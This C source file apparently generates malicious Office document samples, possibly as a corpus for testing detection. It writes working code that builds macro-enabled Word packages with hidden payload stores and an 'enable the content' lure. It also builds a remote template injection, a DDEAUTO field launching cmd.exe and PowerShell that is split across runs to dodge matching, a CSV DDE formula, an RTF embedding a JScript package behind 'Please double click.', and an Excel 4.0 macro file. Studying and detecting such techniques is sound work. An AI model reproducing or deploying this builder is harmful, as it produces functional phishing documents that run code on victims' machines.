/* document_word.c - packages of Word: every place a macro may read from; and documents that do
 * without macros. */
#include "samples_internal.h"

#include "base/attr.h"
#include "support/office_writer.h"

#include <stdio.h>

#define XML  "<?xml version=\"1.0\"?>"
#define RELS "http://schemas.openxmlformats.org/package/2006/relationships"
#define TYPE "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define WORD "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" "
#define DRAW                                                                               \
    "xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\" " \
    "xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\""

void xml_escaped(struct hn_buf *out, const char *text)
{
    for (const char *c = text; *c != '\0'; c++) {
        if (strchr("<>&\"", *c) != NULL)
            hn_buf_addf(out, "&#%u;", (unsigned)(uint8_t)*c);
        else
            hn_buf_add_char(out, *c);
    }
}

static const char package_rels[] = XML
        "<Relationships xmlns=\"" RELS "\">"
        "<Relationship Id=\"r1\" Type=\"" TYPE "officeDocument\" Target=\"word/document.xml\"/>"
        "<Relationship Id=\"r2\" "
        "Type=\"http://schemas.openxmlformats.org/package/2006/relationships/"
        "metadata/core-properties\" Target=\"docProps/core.xml\"/>"
        "<Relationship Id=\"r3\" Type=\"" TYPE "extended-properties\" Target=\"docProps/app.xml\"/>"
        "<Relationship Id=\"r4\" Type=\"" TYPE
        "custom-properties\" Target=\"docProps/custom.xml\"/>"
        "</Relationships>";
static const char document_rels[] =
        XML "<Relationships xmlns=\"" RELS "\">"
            "<Relationship Id=\"r1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/"
            "vbaProject\" Target=\"vbaProject.bin\"/>"
            "<Relationship Id=\"r2\" Type=\"" TYPE "settings\" Target=\"settings.xml\"/>"
            "<Relationship Id=\"r3\" Type=\"" TYPE "comments\" Target=\"comments.xml\"/>"
            "</Relationships>";

typedef void put_fn(struct hn_buf *out, const struct store *store);

static void put_all(
        struct hn_buf *out, const struct stores *stores, enum store_kind kind, put_fn *put)
{
    for (size_t i = 0; i < stores->count; i++)
        if (stores->items[i].kind == kind)
            put(out, &stores->items[i]);
}

static void put_hidden(struct hn_buf *out, const struct store *store)
{
    hn_buf_add_lit(out, "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t xml:space=\"preserve\">");
    xml_escaped(out, store->value);
    hn_buf_add_lit(out, "</w:t></w:r></w:p>");
}

static void put_bookmark(struct hn_buf *out, const struct store *store)
{
    hn_buf_addf(out,
            "<w:p><w:bookmarkStart w:id=\"%u\" w:name=\"%s\"/><w:r><w:t "
            "xml:space=\"preserve\">",
            store->number, store->name);
    xml_escaped(out, store->value);
    hn_buf_addf(out, "</w:t></w:r><w:bookmarkEnd w:id=\"%u\"/></w:p>", store->number);
}

static void put_picture(struct hn_buf *out, const struct store *store)
{
    hn_buf_addf(out, "<w:p><w:r><w:drawing><wp:anchor><wp:docPr id=\"%u\" name=\"%s\" descr=\"",
            store->number, store->name);
    xml_escaped(out, store->value);
    hn_buf_add_lit(out, "\"/><a:graphic/></wp:anchor></w:drawing></w:r></w:p>");
}

static void put_row(struct hn_buf *out, const struct store *store)
{
    hn_buf_addf(out,
            "<w:tr><w:tc><w:p><w:r><w:t>%u</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t "
            "xml:space=\"preserve\">",
            store->number);
    xml_escaped(out, store->value);
    hn_buf_add_lit(out, "</w:t></w:r></w:p></w:tc></w:tr>");
}

static void put_comment(struct hn_buf *out, const struct store *store)
{
    hn_buf_addf(out, "<w:comment w:id=\"%u\" w:author=\"a\"><w:p><w:r><w:t xml:space=\"preserve\">",
            store->number);
    xml_escaped(out, store->value);
    hn_buf_add_lit(out, "</w:t></w:r></w:p></w:comment>");
}

static void put_variable(struct hn_buf *out, const struct store *store)
{
    hn_buf_addf(out, "<w:docVar w:name=\"%s\" w:val=\"", store->name);
    xml_escaped(out, store->value);
    hn_buf_add_lit(out, "\"/>");
}

static void put_custom(struct hn_buf *out, const struct store *store)
{
    hn_buf_addf(out,
            "<property fmtid=\"{D5CDD505-2E9C-101B-9397-08002B2CF9AE}\" pid=\"%u\" "
            "name=\"%s\"><vt:lpwstr>",
            store->number + 1, store->name);
    xml_escaped(out, store->value);
    hn_buf_add_lit(out, "</vt:lpwstr></property>");
}

/* Builtin properties by the names macros use, in the part that has them. */
static void put_builtins(struct hn_buf *out, const struct stores *stores, bool core)
{
    static const struct {
        const char *name;
        const char *tag;
        bool core;
    } rows[] = { { "Subject", "dc:subject", true }, { "Keywords", "cp:keywords", true },
        { "Comments", "dc:description", true }, { "Category", "cp:category", true },
        { "Manager", "Manager", false }, { "Company", "Company", false } };

    for (size_t i = 0; i < stores->count; i++) {
        for (size_t k = 0; k < HN_COUNT_OF(rows); k++) {
            if (stores->items[i].kind != STORE_BUILTIN || rows[k].core != core ||
                    strcmp(stores->items[i].name, rows[k].name) != 0)
                continue;
            hn_buf_addf(out, "<%s>", rows[k].tag);
            xml_escaped(out, stores->items[i].value);
            hn_buf_addf(out, "</%s>", rows[k].tag);
        }
    }
}

static void document_part(struct hn_buf *out, const struct stores *stores)
{
    hn_buf_add_lit(out, XML "<w:document " WORD DRAW "><w:body>");
    put_all(out, stores, STORE_HIDDEN, put_hidden);
    hn_buf_add_lit(out, "<w:p><w:r><w:t>Please enable the content.</w:t></w:r></w:p>");
    put_all(out, stores, STORE_BOOKMARK, put_bookmark);
    put_all(out, stores, STORE_ALTERNATIVE, put_picture);
    if (stores->numbers[STORE_TABLE] > 0) {
        hn_buf_add_lit(out, "<w:tbl>");
        put_all(out, stores, STORE_TABLE, put_row);
        hn_buf_add_lit(out, "</w:tbl>");
    }
    hn_buf_add_lit(out, "</w:body></w:document>");
    hn_buf_add_char(out, '\0');
}

static void wrapped(struct hn_buf *out, const char *head, const struct stores *stores,
        enum store_kind kind, put_fn *put)
{
    const char *end = strchr(head + 2, ' ');

    hn_buf_add_lit(out, XML);
    hn_buf_add_cstr(out, head);
    put_all(out, stores, kind, put);
    if (kind == STORE_VARIABLE)
        hn_buf_add_lit(out, "</w:docVars>");
    hn_buf_addf(out, "</%.*s>", (int)(end - head - 1), head + 1);
    hn_buf_add_char(out, '\0');
}

static void properties(struct hn_buf *core, struct hn_buf *app, const struct stores *stores)
{
    hn_buf_add_lit(core, XML "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/"
                             "package/2006/metadata/core-properties\" "
                             "xmlns:dc=\"http://purl.org/dc/elements/1.1/\">");
    put_builtins(core, stores, true);
    hn_buf_add_lit(core, "</cp:coreProperties>");
    hn_buf_add_char(core, '\0');
    hn_buf_add_lit(app, XML "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/"
                            "2006/extended-properties\">");
    put_builtins(app, stores, false);
    hn_buf_add_lit(app, "</Properties>");
    hn_buf_add_char(app, '\0');
}

void write_docm(struct macros *macros, struct hn_buf *out)
{
    enum { PROJECT, DOCUMENT, SETTINGS, COMMENTS, CUSTOM, CORE, APP, BUFS };
    struct hn_buf bufs[BUFS] = { { 0 } };

    macros_package(macros, &bufs[PROJECT]);
    document_part(&bufs[DOCUMENT], macros->stores);
    wrapped(&bufs[SETTINGS], "<w:settings " WORD "><w:docVars>", macros->stores, STORE_VARIABLE,
            put_variable);
    wrapped(&bufs[COMMENTS], "<w:comments " WORD ">", macros->stores, STORE_COMMENT, put_comment);
    wrapped(&bufs[CUSTOM],
            "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/"
            "custom-properties\" xmlns:vt=\"http://schemas.openxmlformats.org/officeDocument/2006/"
            "docPropsVTypes\">",
            macros->stores, STORE_CUSTOM, put_custom);
    properties(&bufs[CORE], &bufs[APP], macros->stores);
    {
        const struct office_writer_part parts[] = {
            { .name = "_rels/.rels", .text = package_rels },
            { .name = "word/document.xml", .text = bufs[DOCUMENT].ptr },
            { .name = "word/_rels/document.xml.rels", .text = document_rels },
            { .name = "word/settings.xml", .text = bufs[SETTINGS].ptr },
            { .name = "word/comments.xml", .text = bufs[COMMENTS].ptr },
            { .name = "docProps/core.xml", .text = bufs[CORE].ptr },
            { .name = "docProps/app.xml", .text = bufs[APP].ptr },
            { .name = "docProps/custom.xml", .text = bufs[CUSTOM].ptr },
            { .name = "word/vbaProject.bin",
                    .bytes = hn_bytes_of(bufs[PROJECT].ptr, bufs[PROJECT].len) },
        };

        office_writer_package(parts, HN_COUNT_OF(parts), out);
    }
    for (size_t i = 0; i < BUFS; i++)
        hn_buf_deinit(&bufs[i]);
}

/* ---- Without macros ---- */

static const char plain_package_rels[] =
        XML "<Relationships xmlns=\"" RELS "\">"
            "<Relationship Id=\"r1\" Type=\"" TYPE "officeDocument\" Target=\"word/document.xml\"/>"
            "</Relationships>";

/* The document's template comes from a server. */
static void write_template(struct chance *chance, struct hn_buf *out)
{
    struct hn_buf rels = { 0 };
    struct office_writer_part parts[] = {
        { .name = "_rels/.rels", .text = plain_package_rels },
        { .name = "word/document.xml",
                .text = XML "<w:document " WORD "><w:body><w:p/></w:body></w:document>" },
        { .name = "word/_rels/document.xml.rels",
                .text = XML "<Relationships xmlns=\"" RELS "\"><Relationship Id=\"r2\" Type=\"" TYPE
                            "settings\" Target=\"settings.xml\"/></Relationships>" },
        { .name = "word/settings.xml",
                .text = XML "<w:settings " WORD "xmlns:r=\"http://schemas.openxmlformats.org/"
                            "officeDocument/2006/relationships\"><w:attachedTemplate r:id=\"r1\"/>"
                            "</w:settings>" },
        { .name = "word/_rels/settings.xml.rels" },
    };

    chance->sample->url_count = 1;
    hn_buf_add_lit(&rels,
            XML "<Relationships xmlns=\"" RELS "\"><Relationship Id=\"r1\" Type=\"" TYPE
                "attachedTemplate\" TargetMode=\"External\" Target=\"");
    hn_buf_add_cstr(&rels, chance->sample->urls[0]);
    hn_buf_add_lit(&rels, "\"/></Relationships>");
    hn_buf_add_char(&rels, '\0');
    parts[HN_COUNT_OF(parts) - 1].text = rels.ptr;
    office_writer_package(parts, HN_COUNT_OF(parts), out);
    hn_buf_deinit(&rels);
}

/* A field that starts a program, its instruction cut into runs. */
static void write_dde(struct chance *chance, struct hn_buf *out)
{
    struct hn_buf command = { 0 };
    struct hn_buf document = { 0 };
    struct office_writer_part parts[] = {
        { .name = "_rels/.rels", .text = plain_package_rels },
        { .name = "word/document.xml" },
    };

    hn_buf_add_lit(&command, "DDEAUTO \"C:\\\\Windows\\\\System32\\\\cmd.exe\" \"/c ");
    powershell_line(chance, true, &command);
    hn_buf_add_lit(&command, "\"");
    hn_buf_add_lit(&document, XML "<w:document " WORD "><w:body><w:p><w:r><w:fldChar "
                                  "w:fldCharType=\"begin\"/></w:r>");
    for (struct hn_text rest = hn_buf_text(&command); rest.len > 0;
            rest = hn_text_sub(rest, 97, SIZE_MAX)) {
        char piece[98] = { 0 };

        memcpy(piece, rest.ptr, rest.len < 97 ? rest.len : 97);
        hn_buf_add_lit(&document, "<w:r><w:instrText xml:space=\"preserve\">");
        xml_escaped(&document, piece);
        hn_buf_add_lit(&document, "</w:instrText></w:r>");
    }
    hn_buf_add_lit(&document, "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body>"
                              "</w:document>");
    hn_buf_add_char(&document, '\0');
    parts[1].text = document.ptr;
    office_writer_package(parts, HN_COUNT_OF(parts), out);
    hn_buf_deinit(&document);
    hn_buf_deinit(&command);
}

static void write_csv(struct chance *chance, struct hn_buf *out)
{
    struct hn_buf command = { 0 };

    hn_buf_add_lit(out, "name,amount\r\n=cmd|'/c ");
    powershell_line(chance, true, &command);
    for (size_t i = 0; i < command.len; i++)
        if (strchr("\"^", command.ptr[i]) == NULL) /* quotes would end the field */
            hn_buf_add_char(out, command.ptr[i]);
    hn_buf_add_lit(out, "'!A1,100\r\n");
    hn_buf_deinit(&command);
}

/* A package in a document of RTF, its digits broken by spaces. */
static void write_rtf(struct chance *chance, struct hn_buf *out)
{
    struct hn_buf script = { 0 };
    struct hn_buf native = { 0 };
    struct hn_buf object = { 0 };

    script_jscript(chance, &script);
    office_writer_native(&native, "order.js", "C:\\Users\\a\\order.js",
            "C:\\Users\\a\\AppData\\Local\\Temp\\order.js", hn_bytes_of(script.ptr, script.len),
            NULL);
    office_writer_ole1(
            &object, "Package", hn_bytes_of((const uint8_t *)native.ptr + 4, native.len - 4));
    hn_buf_add_lit(out, "{\\rtf1\\ansi Please double click.{\\object\\objemb{\\*\\objclass Package}"
                        "{\\*\\objdata ");
    for (size_t i = 0; i < object.len; i++) {
        hn_buf_addf(out, "%02x", (unsigned)(uint8_t)object.ptr[i]);
        hn_buf_add_cstr(out, chance_next(chance, 40) == 0 ? "\r\n" : "");
    }
    hn_buf_add_lit(out, "}}\\par}");
    hn_buf_deinit(&object);
    hn_buf_deinit(&native);
    hn_buf_deinit(&script);
}

static const struct {
    const char *row;
    const char *name;
    void (*write)(struct chance *chance, struct hn_buf *out);
} plain[] = { { "document: remote template", "letter.docx", write_template },
    { "document: DDE field", "letter.docx", write_dde },
    { "document: DDE in CSV", "list.csv", write_csv },
    { "document: RTF with a package", "letter.rtf", write_rtf },
    { "document: Excel 4.0 macro", "invoice.slk", make_workbook } };

void make_plain_document(struct chance *chance, const char *row)
{
    for (size_t i = 0; i < HN_COUNT_OF(plain); i++) {
        if (strcmp(plain[i].row, row) != 0)
            continue;
        plain[i].write(chance, &chance->sample->bytes);
        (void)snprintf(chance->sample->name, sizeof chance->sample->name, "%s", plain[i].name);
        chance_row(chance, plain[i].row);
    }
}
